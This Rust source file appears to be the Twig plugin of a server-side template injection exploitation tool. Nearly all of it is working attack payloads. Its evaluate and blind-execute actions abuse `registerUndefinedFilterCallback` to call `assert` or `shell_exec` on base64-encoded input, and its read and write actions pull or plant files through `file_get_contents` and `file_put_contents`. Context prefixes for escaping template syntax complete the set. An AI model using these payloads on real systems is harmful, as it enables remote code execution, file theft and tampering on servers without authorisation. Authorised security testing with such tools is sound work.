//! PHP-hosted template engines (§ supplemented features). Twig's sandbox
//! bypass works differently from the JS/Python families: instead of
//! walking an object graph to an import hook, the classic gadget
//! registers an arbitrary PHP function as an "undefined filter callback"
//! and then invokes it by name.

use std::collections::HashMap;

use crate::context::ContextDescriptor;
use crate::plugin::{
    BlindAction, Call, EvaluateAction, ExecuteAction, ExecuteBlindAction, HeaderType, Md5Action, PluginDescriptor,
    PluginInfo, ReadAction, RenderAction, Version, WriteAction,
};
use crate::util;

fn quote_closures() -> HashMap<u8, Vec<Vec<String>>> {
    let mut map = HashMap::new();
    map.insert(
        1u8,
        vec![vec!["\"".to_string(), "'".to_string()], vec![String::new(), ")".to_string()]],
    );
    map
}

/// Twig (https://twig.symfony.com/): the dominant PHP template engine,
/// whose `registerUndefinedFilterCallback`/`getFilter` pair is the
/// standard way to turn a filter expression into an arbitrary function
/// call once the sandbox extension is absent or bypassed.
pub fn twig() -> PluginDescriptor {
    let a = util::rand_4digit();
    let b = util::rand_4digit();

    let mut d = PluginDescriptor::new("php", "twig", 5);
    d.header_type = HeaderType::Add;
    d.min_core_version = Version(1, 0, 0);
    d.info = PluginInfo {
        description: "Twig template engine".to_string(),
        authors: vec!["Fabien Potencier".to_string()],
        references: vec!["https://twig.symfony.com/".to_string()],
        engines: vec!["twig".to_string()],
    };

    d.actions.render = Some(RenderAction {
        render: "{code}".to_string(),
        header: Some("{{ {header[0]}+{header[1]} }}".to_string()),
        trailer: Some("{{ {trailer[0]}+{trailer[1]} }}".to_string()),
        test_render: format!("{{{{ {}*{} }}}}", a, b),
        test_render_expected: (a * b).to_string(),
    });
    d.actions.evaluate = Some(EvaluateAction {
        call: Call::Render,
        evaluate: "{{ _self.env.registerUndefinedFilterCallback('assert') }}{{ _self.env.getFilter(base64_decode('{code_b64p}')) }}".to_string(),
        test_os: Some("php_uname('s')".to_string()),
        test_os_expected: Some(r"^[A-Za-z]+$".to_string()),
    });
    d.actions.execute = Some(ExecuteAction {
        call: Call::Evaluate,
        execute: "shell_exec(base64_decode('{code_b64p}'))".to_string(),
        test_cmd: None,
        test_cmd_expected: None,
    });
    d.actions.execute_blind = Some(ExecuteBlindAction {
        call: Call::Inject,
        execute_blind: "{{ _self.env.registerUndefinedFilterCallback('shell_exec') }}{{ _self.env.getFilter(base64_decode('{code_b64p}') ~ ' && sleep {delay}') }}".to_string(),
    });
    d.actions.read = Some(ReadAction {
        call: Call::Evaluate,
        read: "base64_encode(file_get_contents('{path}'))".to_string(),
    });
    d.actions.md5 = Some(Md5Action {
        call: Call::Evaluate,
        md5: "md5_file('{path}')".to_string(),
    });
    d.actions.write = Some(WriteAction {
        call: Call::Evaluate,
        write: "file_put_contents('{path}', base64_decode('{chunk_b64p}'), FILE_APPEND)".to_string(),
        truncate: Some("file_put_contents('{path}', '')".to_string()),
    });
    d.actions.blind = Some(BlindAction {
        call: Call::Inject,
        test_bool_true: "{{ sleep({delay}) }}".to_string(),
        test_bool_false: "{{ 1 }}".to_string(),
    });

    let closures = quote_closures();
    d.contexts = vec![
        ContextDescriptor {
            level: 0,
            ..Default::default()
        },
        ContextDescriptor {
            level: 1,
            prefix: Some("{closure}}}".to_string()),
            suffix: "{{1".to_string(),
            wrappers: vec![],
            closures: closures.clone(),
        },
        ContextDescriptor {
            level: 1,
            prefix: Some("{closure} %}".to_string()),
            suffix: String::new(),
            wrappers: vec![],
            closures,
        },
        ContextDescriptor {
            level: 5,
            prefix: Some("#}".to_string()),
            suffix: "{#".to_string(),
            wrappers: vec![],
            closures: HashMap::new(),
        },
    ];

    d
}
